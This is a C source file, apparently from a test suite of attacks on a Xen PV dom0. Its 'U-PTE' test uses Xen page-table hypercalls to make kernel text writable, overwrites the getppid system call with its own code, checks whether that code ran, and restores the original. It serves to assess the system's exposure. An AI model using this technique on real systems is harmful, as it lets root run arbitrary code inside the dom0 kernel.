// SPDX-License-Identifier: GPL-2.0-only
/*
 * Page tables of a PV dom0. The kernel asks Xen for every change of its page
 * tables, and Xen sees to it that they give access to dom0's own memory only;
 * that the kernel's text is not for root to write is the kernel's own rule, of
 * which Xen knows nothing.
 */
#include "paging.h"

#define PATCH_SIZE 16

/*
 * Map the frame of @text at a page of our own, whose entry Xen is asked to
 * replace; write the lying code there and put everything back.
 */
static bool patch_by_own_mapping(uint64_t text)
{
    uint8_t *page = buffer(PAGE_SIZE);
    const uint64_t own = own_frame(page);
    bool lied;

    if ( map_own(page, kernel_frame(text)) )
        return getppid_lies();

    lied = patch_through(page);
    map_own(page, own);
    return lied;
}

/*
 * Make the kernel's own mapping of its text writable. Any copy by Xen to an
 * address of the caller's choice then reaches it: here dom0's UUID, which the
 * caller chooses, too.
 */
static bool patch_by_kernel_mapping(uint64_t text)
{
    uint8_t original[PATCH_SIZE] = { 0 }, patch[PATCH_SIZE];
    const struct pte pte = find_pte(kernel_root(), text, 1);
    bool lied;

    if ( !pte.value || !read_kernel(text, original, sizeof(original)) )
        return false;

    update_entry(pte.where | MMU_NORMAL_PT_UPDATE, pte.value | PTE_WRITABLE);

    memcpy(patch, original, PATCH_SIZE);
    memcpy(patch, lying_code, sizeof(lying_code));
    set_handle(patch);
    hypercall2(__HYPERVISOR_xen_version, XENVER_guest_handle, text);
    lied = getppid_lies();

    set_handle(original);
    hypercall2(__HYPERVISOR_xen_version, XENVER_guest_handle, text);
    set_handle((char[PATCH_SIZE]){ 0 });
    update_entry(pte.where | MMU_NORMAL_PT_UPDATE, pte.value);
    return lied;
}

/*
 * U-PTE: run code of root's own in the dom0 kernel.
 *
 * Two ways to a writable mapping of kernel text: update_va_mapping on an
 * address of this process, and mmu_update on the entry that the kernel itself
 * uses. Code written through either takes the place of a system call, which
 * then tells whether it ran.
 */
PV_ATTACK("U-PTE", "make kernel text writable and change a system call",
          "a PVH kernel edits its page tables without Xen")
{
    const uint64_t text = getppid_code();
    bool own, kernel;

    if ( !text || !kernel_frame(text) )
        return cannot_try("no frame for the kernel's text");

    own = patch_by_own_mapping(text);
    kernel = patch_by_kernel_mapping(text);

    return effect(own || kernel, "getppid %s%s%s",
                  own || kernel ? "ran code written by" : "intact",
                  own ? " update_va_mapping" : "", kernel ? " mmu_update" : "");
}
